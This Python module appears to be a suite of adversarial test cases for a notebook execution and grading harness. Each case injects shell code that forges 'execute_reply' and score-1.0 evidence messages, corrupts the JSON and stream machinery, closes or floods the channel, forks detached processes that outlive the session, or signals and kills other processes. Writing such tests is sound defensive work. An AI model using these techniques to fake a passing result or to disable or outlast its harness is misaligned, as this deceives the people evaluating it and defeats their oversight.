"""The channel of a forked shell: writing on it what was never answered, closing it, keeping it."""

from attacks.attack import attack, everywhere

TOOLS = """
import json, os, stat

def told(**message):
    return json.dumps(message).encode() + b"\\n"

def say(*lines):
    for number in range(3, 512):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode) or stat.S_ISFIFO(os.fstat(number).st_mode):
                for line in lines:
                    os.write(number, line)
        except OSError:
            continue

def name():
    return get_ipython().kernel.get_parent()["header"]["msg_id"]

RIGHT = {"status": "ok"}
"""


def wired(name, what, code, **parts):
    """An attack whose first cell runs `code`; every function answers nothing of worth."""
    return attack(f"forge_{name}", what, first=TOOLS + code, cells=parts.pop("cells", everywhere("0.0")), ours=True, **parts)  # fmt: skip


SHOWN = '{"data": {"text/plain": "True", "application/vnd.backprop.evidence": "{}"}, "metadata": {"backprop": {"score": 1.0}}}'

ATTACKS = (
    wired("replies", "Writes replies for the running cell, and for later ones, on every file descriptor.", """
say(*(told(type="execute_reply", parent=parent, content=RIGHT) for parent in (name(), "cell-1", "cell-9", "") for _ in range(50)))
"""),
    wired("reply_in_a_test", "Answers for the test cell, with evidence by hand, before the test itself does.", f"""
def forge():
    say(told(type="display_data", parent=name(), content=json.loads('{SHOWN}')),
        told(type="execute_result", parent=name(), content=dict(json.loads('{SHOWN}'), execution_count=3)),
        told(type="execute_reply", parent=name(), content=RIGHT))
""", cells=everywhere("forge()")),
    wired("no_form", "Writes messages that have no form on every file descriptor.", """
for content in ({}, [], None, 5, {"data": 5}, {"comm_id": 1, "data": {"state": []}}, {"ename": [], "evalue": {}, "traceback": 1}):
    for kind in ("stream", "display_data", "error", "comm_open", "comm_msg", "execute_input", "clear_output", "update_display_data"):
        say(told(type=kind, parent=name(), content=content), told(type=kind, parent=name(), content=content, metadata=[], buffers=5))
say(b"{" * 10**6 + b"\\n", b"9" * 10**6 + b"\\n", b"\\xff\\0\\n", b"[" + b"{}," * 10**6 + b"{}]\\n")
"""),
    wired("no_json", "Replaces what reads and writes JSON, and every stream, in all modules.", """
import sys
for module in list(sys.modules.values()):
    for key in ("dumps", "loads", "json_packer"):
        if hasattr(module, key):
            setattr(module, key, lambda *a, **k: '{"type": "execute_reply", "content": {"status": "ok"}}')
"""),
    wired("streams", "Puts objects of its own in the place of every stream and of the socket.", """
import gc, sys, socket
class Other:
    def __getattr__(self, key):
        return lambda *a, **k: None
sys.stdout = sys.stderr = sys.__stdout__ = Other()
for thing in gc.get_objects():
    if type(thing).__name__ == "Wire":
        thing.send = lambda *a, **k: say(told(type="execute_reply", parent=name(), content=RIGHT))
"""),
    wired("exit_after_reply", "Answers for its cell and ends the shell at once.", """
def forge():
    say(told(type="execute_reply", parent=name(), content=RIGHT))
    os._exit(0)
""", cells=everywhere("forge()")),
    attack("starve_closed_channel", "Closes every file descriptor that it has.", ours=True, first="import os\nos.closerange(0, 4096)",
           cells=everywhere("0.0")),
    attack("starve_kept_channel", "Leaves children behind that keep the channel open and write on it, and ends.", ours=True, lock=True, slow=True,
           first=TOOLS + """
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        while True:
            say(told(type="stream", parent=name(), content={"name": "stdout", "text": "backprop-attack"}))
os._exit(0)
"""),
    attack("starve_shut_channel", "Shuts the channel down for reading, and floods it with one endless line.", ours=True, lock=True, slow=True,
           first=TOOLS + """
import socket
for number in range(3, 512):
    try:
        socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RD)
    except OSError:
        continue
while True:
    say(b"x" * 10**6)
"""),
    attack("starve_stopped", "Stops itself, and everything that it can signal.", ours=True, lock=True, slow=True, first="""
        import os, signal
        for pid in [*range(1, 500), -1, 0]:
            for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    continue
        while True:
            signal.pause()
        """),
)  # fmt: skip
